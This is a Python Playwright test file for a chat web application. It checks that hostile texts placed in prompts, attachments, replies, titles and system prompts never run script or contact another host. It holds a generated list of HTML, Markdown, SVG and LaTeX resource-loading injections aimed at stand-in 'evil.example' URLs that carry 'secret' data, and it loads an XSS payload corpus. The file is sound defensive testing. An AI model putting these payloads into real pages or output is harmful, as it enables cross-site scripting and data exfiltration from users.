"""Thousands of hostile texts in a real browser, each in every place that shows what others wrote.

Each is a prompt with an attached file of that name, a reply, and a title in the list; those of one
page together are the system prompt and the name of the model.

That no script ran, no policy was broken and nothing was asked of another host is checked at the
end of every test by the `page` fixture; those that run leave a mark by
`print`, `alert` and the like.
"""

from __future__ import annotations

import json
import lzma
import random
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from app.attachments import document
from engine.base import EngineInfo
from storage.records import OWNER_ID, VerdictRecord
from tests.browser.site import Site

pytestmark = pytest.mark.browser
PER_PAGE = 20  # turns: what the window shows at once
SAMPLE = 40

# Every way that a page can be made to ask another address, each in several spellings.
_LOADS = (
    "![x]({u})", "![x][r]\n\n[r]: {u}", "[![x]({u})](#)", "<img src={u}>", '<img srcset="{u} 1x">',
    "<video src={u} autoplay></video>", "<video poster={u}></video>", "<audio src={u} autoplay>",
    "<input type=image src={u}>", "<link rel=stylesheet href={u}>", "<link rel=prefetch href={u}>",
    "<iframe src={u}></iframe>", "<object data={u}></object>", "<embed src={u}>",
    "<svg><image href={u} /></svg>", "<svg><use href={u}#x /></svg>",
    '<div style="background:url({u})">x</div>', "<style>*{{background:url({u})}}</style>",
    "<style>@import '{u}';</style>", "<meta http-equiv=refresh content='0;url={u}'>",
    "<base href={u}>", "<form action={u}><button autofocus>x</button></form>",
    "<script src={u}></script>", "<table background={u}><tr><td>x</table>", "<body background={u}>",
    "<source src={u}>", "<track src={u}>", "<picture><source srcset={u}><img></picture>",
    "<math><mtext><mglyph src={u}></mtext></math>", r"\(\includegraphics{{{u}}}\)",
    r"$\href{{{u}}}{{x}}$", "<frameset><frame src={u}></frameset>", "<a ping={u} href=#>x</a>",
    "<blockquote cite={u}>x</blockquote>", "<html manifest={u}>", "<xml src={u}>",
)  # fmt: skip
_PLACES = (
    "http://evil.example/?d=secret", "//evil.example/?d=secret", "https://evil.example/x.png",
    "/gradio_api/file=http://evil.example/?d=secret", "/gradio_api/proxy=http://evil.example/",
    "HTTP://EVIL.example/%0a", "http:\\\\evil.example\\x",
)  # fmt: skip
EXFILTRATION = [form.format(u=place) for form in _LOADS for place in _PLACES]


def payloads(shared_data: Path) -> list[str]:
    path = shared_data / "hostile" / "xss.jsonl.xz"
    with lzma.open(path, "rt", encoding="utf-8") as lines:
        return [json.loads(line)["payload"] for line in lines]


def show_all(page: Page, site: Site, texts: list[str]) -> int:
    """Put each text in every place, and look at all of them."""
    for start in range(0, len(texts), PER_PAGE):
        part = texts[start : start + PER_PAGE]
        key = written(site, part)
        name = " ".join(part)
        info = EngineInfo(name, "print", "none", 0, 4096, name, name, note=name)
        site.engine.info = lambda info=info: info  # type: ignore[misc,method-assign]
        page.goto(f"{site.url}?c={key}")
        expect(page.locator("#window .turn")).to_have_count(2 * len(part), timeout=60_000)
        names = page.locator("#listing .conv .name")
        expect(names.first).to_be_visible()
        assert names.count() >= min(len(part), 10)
        page.mouse.move(400, 300)
        page.locator("[data-panel=session]").first.click()
        expect(page.locator("#system_prompt")).not_to_have_value("")
    return len(texts)


def written(site: Site, part: list[str]) -> str:
    """The key of a conversation that holds these texts; one more for each, with it as the title."""
    store = site.services.store
    for text in part:
        store.create_conversation(OWNER_ID, title=text[:200])
    system_prompt = "\n".join(part)[:90_000]
    key = store.create_conversation(OWNER_ID, title="x", system_prompt=system_prompt).key
    parent = None
    for number, text in enumerate(part):
        prompt = f"{text}\n\n{document(text, b'attached')}"
        turn = store.begin_turn(
            OWNER_ID, key, parent_id=parent, text=prompt, client_key=str(number)
        )
        store.set_status(turn.prompt.id, "done")
        store.append(turn.reply.id, text)
        passed = VerdictRecord("final", "test", "1", "allow", 0.0)
        store.finish_reply(turn.reply.id, status="done", generation=None, verdicts=[passed])
        parent = turn.reply.id
    return key


def test_hostile_texts_only_show(page: Page, site: Site, shared_data: Path) -> None:
    chosen = random.Random(8).sample(payloads(shared_data), SAMPLE)
    chosen += random.Random(8).sample(EXFILTRATION, SAMPLE)
    assert show_all(page, site, chosen) == 2 * SAMPLE


@pytest.mark.full
def test_three_thousand_payloads_only_show(page: Page, site: Site, shared_data: Path) -> None:
    chosen = random.Random(8).sample(payloads(shared_data), 3_000)
    print(f"{show_all(page, site, chosen)} payloads, each in every place")


@pytest.mark.full
def test_nothing_is_loaded_from_elsewhere(page: Page, site: Site) -> None:
    number = show_all(page, site, EXFILTRATION)
    print(f"{number} texts that would load something")
    assert number >= 200
